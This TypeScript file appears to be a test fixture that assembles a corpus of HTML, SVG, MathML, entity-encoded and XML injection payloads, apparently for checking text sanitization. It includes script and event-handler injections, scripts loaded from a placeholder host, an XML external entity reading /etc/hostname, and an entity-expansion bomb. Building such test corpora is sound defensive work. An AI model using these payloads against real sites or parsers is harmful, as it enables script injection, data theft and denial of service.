/** Mark-up that would run, load or send something where a text is taken for HTML, SVG or XML. */
import { acts, crossed, nowhere, ofKind, type Payload } from './payload';

const handlers: Readonly<Record<string, string>> = {
  image: `<img src=x onerror="${acts}">`,
  'image without quotes': `<img src=x onerror=${acts}>`,
  'image with slashes': `<img/src=x/onerror=${acts}>`,
  'image that loads': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${acts}>`,
  script: `<script>${acts}</script>`,
  'script in capitals': `<SCRIPT>${acts}</SCRIPT>`,
  'script from elsewhere': `<script src=https://${nowhere}/a.js></script>`,
  'module script': `<script type=module>${acts}</script>`,
  svg: `<svg onload=${acts}>`,
  'svg with an image': `<svg><image href=x onerror=${acts} /></svg>`,
  body: `<body onpageshow=${acts}>`,
  'open details': `<details open ontoggle=${acts}>more</details>`,
  'field with the focus': `<input autofocus onfocus=${acts}>`,
  'choice with the focus': `<select autofocus onfocus=${acts}></select>`,
  'box with the focus': `<textarea autofocus onfocus=${acts}></textarea>`,
  'part that can have the focus': `<div tabindex=0 autofocus onfocus=${acts}>x</div>`,
  video: `<video><source onerror=${acts}></video>`,
  sound: `<audio src=x onerror=${acts}></audio>`,
  frame: `<iframe srcdoc="<script>parent.${acts.slice(7)}</script>"></iframe>`,
  'frame with an address': `<iframe src="javascript:parent.${acts.slice(7)}"></iframe>`,
  object: `<object data="data:text/html,<script>${acts}</script>"></object>`,
  embedded: `<embed src="javascript:${acts}">`,
  'style that loads': `<style>@import "https://${nowhere}/a.css";</style>`,
  'style attribute': `<p style="background:url(https://${nowhere}/a.png)">x</p>`,
  'animation that begins': `<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=${acts}>x</b>`,
  link: `<link rel=stylesheet href=https://${nowhere}/a.css>`,
  'other base': `<base href=https://${nowhere}/>`,
  'other page': `<meta http-equiv=refresh content="0;url=https://${nowhere}/">`,
  form: `<form action=https://${nowhere}/ id=f><input name=a></form><button form=f>Save</button>`,
  'form that is sent': `<form action="javascript:${acts}"><input type=submit autofocus></form>`,
  'image of a tracker': `<img src="https://${nowhere}/seen.gif" width=1 height=1>`,
  'custom element': `<before-we-meet-button onclick=${acts}>Prepare</before-we-meet-button>`,
  'declared shadow root': `<div><template shadowrootmode=open><img src=x onerror=${acts}></template></div>`,
  'popover that opens': `<div popover id=p onbeforetoggle=${acts}>x</div><button popovertarget=p>Yes</button>`,
};

/** Ways out of where a text may have been put. */
const contexts: Readonly<Record<string, (part: string) => string>> = {
  'by itself': (part) => part,
  'out of an attribute': (part) => `"'>${part}`,
  'out of a text': (part) => `</textarea></title></style></script>--> ${part}`,
  'behind half a tag': (part) => `<a title="${part}`,
};

const vector: Readonly<Record<string, string>> = {
  'animated address': `<svg><a><animate attributeName=href values="javascript:${acts}"/><text y=20>Open</text></a></svg>`,
  'set attribute': `<svg><set attributeName=onload to="${acts}"/></svg>`,
  'animation that begins': `<svg><animate onbegin=${acts} attributeName=x dur=1s></svg>`,
  'animation that ends': `<svg><animate onend=${acts} attributeName=x dur=1ms></svg>`,
  'use of data': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${acts}'/>#x"/></svg>`,
  'foreign object': `<svg><foreignObject><img src=x onerror=${acts}></foreignObject></svg>`,
  'script within': `<svg><script>${acts}</script></svg>`,
  'script with an address': `<svg><script href="data:,${acts}" /></svg>`,
  'style within': `<svg><style><img src=x onerror=${acts}></style></svg>`,
  'title within': `<svg><title><img src=x onerror=${acts}></title></svg>`,
  'description within': `<svg><desc><img src=x onerror=${acts}></desc></svg>`,
  'formula with an address': `<math href="javascript:${acts}"><mtext>Open</mtext></math>`,
  'formula with an old address': `<math><maction actiontype=statusline xlink:href="javascript:${acts}">Open</maction></math>`,
  'formula that becomes mark-up': `<math><mtext><table><mglyph><style><img src=x onerror=${acts}></style></mglyph></table></mtext></math>`,
  'formula with an annotation': `<math><annotation-xml encoding="text/html"><img src=x onerror=${acts}></annotation-xml></math>`,
  'comment that ends early': `<!--><img src=x onerror=${acts}>-->`,
  'comment within a comment': `<!-- --!><img src=x onerror=${acts}> -->`,
  'processing instruction': `<?xml-stylesheet href="javascript:${acts}"?>`,
  'noscript that becomes mark-up': `<noscript><p title="</noscript><img src=x onerror=${acts}>">`,
  'template within a table': `<table><template><img src=x onerror=${acts}></template></table>`,
  'listing that becomes mark-up': `<xmp><p title="</xmp><img src=x onerror=${acts}>">`,
  'name that covers a property': '<form id=location><input name=href></form><img name=querySelector>',
  'names that cover each other': '<a id=browser></a><a id=browser name=runtime href=x></a>',
};

/** Mark-up that comes about only after a second reading. */
const entities: Readonly<Record<string, string>> = {
  named: `&lt;img src=x onerror=${acts}&gt;`,
  'named twice': `&amp;lt;img src=x onerror=${acts}&amp;gt;`,
  decimal: `&#60;img src=x onerror=${acts}&#62;`,
  'decimal with zeros': `&#0000060;img src=x onerror=${acts}&#0000062;`,
  'decimal without an end': `&#60img src=x onerror=${acts}&#62`,
  hexadecimal: `&#x3c;img src=x onerror=${acts}&#x3e;`,
  'percent signs': `%3Cimg%20src%3Dx%20onerror%3D${acts}%3E`,
  'percent signs twice': `%253Cimg%2520src%253Dx%2520onerror%253D${acts}%253E`,
  backslashes: `\\x3cimg src=x onerror=${acts}\\x3e`,
  'backslashes with u': `\\u003cimg src=x onerror=${acts}\\u003e`,
  'wide signs': `＜img src=x onerror=${acts}＞`,
  'signs alike': `‹img src=x onerror=${acts}›`,
  'UTF-7': `+ADw-script+AD4-${acts}+ADw-/script+AD4-`,
  'an entity that is none': '&nosuch; &#x110000; &#0; &#xD800; &#99999999; &;',
  'all named': '&amp;&lt;&gt;&quot;&apos;&nbsp;&NewLine;&Tab;&colon;&lpar;&rpar;',
};

const xml: Readonly<Record<string, string>> = {
  'outer entity': `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>`,
  'entity from elsewhere': `<!DOCTYPE a [<!ENTITY % b SYSTEM "https://${nowhere}/a.dtd">%b;]><a/>`,
  'entities that grow':
    '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>',
  'character data': `<![CDATA[<img src=x onerror=${acts}>]]>`,
  'end of character data': `]]><img src=x onerror=${acts}>`,
  'match of a suggestion': '</match><url>https://never.example/</url><match>',
  'dim of a suggestion': '</dim></match><dim>Prepare</dim>',
  'a suggestion in parts': '<match>a</match> & <dim>b</dim>',
  'two ampersands': 'A && B & C &',
  'a declaration': '<?xml version="1.1" encoding="UTF-16"?>',
  'other names': `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${acts}</x:script>`,
  'a sign that XML refuses': 'a\u0001b\u000bc\uffffd\ufffee',
  'included document': `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="https://${nowhere}/"/>`,
  'style sheet': `<?xml-stylesheet type="text/xsl" href="https://${nowhere}/a.xsl"?><a/>`,
};

export const markup: readonly Payload[] = [
  ...crossed('mark-up', handlers, contexts),
  ...ofKind('drawing or formula', vector),
  ...ofKind('entity', entities),
  ...ofKind('XML', xml),
];
